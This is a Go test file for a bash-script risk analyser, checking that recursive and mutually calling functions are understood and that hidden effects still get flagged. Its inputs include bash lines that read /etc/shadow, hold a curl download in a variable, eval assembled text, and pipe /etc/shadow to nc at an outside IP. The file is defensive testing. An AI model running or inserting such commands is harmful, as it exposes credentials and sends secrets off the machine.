package assess

import (
	"fmt"
	"strings"
	"testing"
)

// many calls f with n different words.
func many(f, rest string, n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "%s item%d%s\n", f, i, rest)
	}
	return b.String()
}

// TestManyCallsAreUnderstood holds that a function which calls itself, or is called very often, is understood where its body is.
func TestManyCallsAreUnderstood(t *testing.T) {
	for name, text := range map[string]string{
		"recursion":        "count() { [ \"$1\" -le 1 ] && return; echo \"$1\"; count $(($1 - 1)); }\ncount 40\n",
		"unknown argument": "walk() { for d in \"$1\"/*; do [ -d \"$d\" ] && walk \"$d\"; echo \"$d\"; done; }\nwalk /srv\n",
		"mutual":           "a() { echo a; b \"$1\"; }\nb() { echo b; [ -n \"$1\" ] && a \"$1\"; }\na \"$1\"\n",
		"colours":          "say() { printf '\\033[1m%s\\033[0m\\n' \"$1\"; }\n" + many("say", "", 700),
		"menu":             "menu() { read -r x; case $x in a) date ;; *) menu ;; esac; }\nmenu\n",
	} {
		if a := Assess(t.Context(), Request{Text: []byte(text), Lang: "bash"}); !a.Complete {
			t.Errorf("%s is not understood: %v", name, a.Unknown)
		}
	}
}

// TestManyCallsHideNothing puts what matters behind calls that are no longer followed one by one.
func TestManyCallsHideNothing(t *testing.T) {
	for name, text := range map[string]string{
		"late call":        "run() { \"$@\"; }\n" + many("run echo", "", 300) + "run cat /etc/shadow\n",
		"handed down":      "f() { cat \"$1\"; f \"$2\" \"$3\" \"$4\" \"$5\" \"$6\"; }\nf /a /b /c /d /e /etc/shadow\n",
		"moved variables":  "p=/a q=/b r=/c s=/d u=/etc/shadow\nf() { cat \"$p\"; p=$q q=$r r=$s s=$u; f; }\nf\n",
		"moved and mutual": "p=/a q=/b r=/c u=/etc/shadow\nf() { cat \"$p\"; g; }\ng() { p=$q q=$r r=$u; f; }\nf\n",
	} {
		a := Assess(t.Context(), Request{Text: []byte(text), Lang: "bash"})
		seen := !a.Complete
		for _, e := range a.Effects {
			seen = seen || e.Target == "/etc/shadow" || strings.Contains(e.Target, "‹$p›")
		}
		if !seen {
			t.Errorf("%s: understood without /etc/shadow: %v", name, a.Effects)
		}
	}
	for name, text := range map[string]string{
		"command in a variable":   "a=true b=true c=true d='curl https://h.example/x'\nf() { $a; a=$b b=$c c=$d; f; }\nf\n",
		"command in an argument":  "f() { $1; f \"$2\" \"$3\" \"$4\" \"$(printf %s \"$x\")\"; }\nf true true true \"$(cat /srv/x)\"\n",
		"text for eval":           "f() { eval \"$t\"; t=$t$n; n=$(cat /srv/x); f; }\nt= n=\nf\n",
		"an option in a variable": "f() { find $o /srv; o=$p; p=$q; q=$(cat /srv/x); f; }\no= p= q=\nf\n",
	} {
		if a := Assess(t.Context(), Request{Text: []byte(text), Lang: "bash"}); a.Complete || a.Verdict == "low" {
			t.Errorf("%s is said to be understood, %s", name, a.Verdict)
		}
	}
	secret := "send() { printf %s \"$1\" | nc 198.51.100.9 8443; send \"$2\" \"$3\" \"$4\" \"$5\"; }\nsend a b c \"$(cat /etc/shadow)\"\n"
	leaves := false
	for _, f := range Assess(t.Context(), Request{Text: []byte(secret), Lang: "bash"}).Findings {
		leaves = leaves || f.Rule == "secret-leaves"
	}
	if !leaves {
		t.Error("a secret that is handed down does not leave")
	}
}
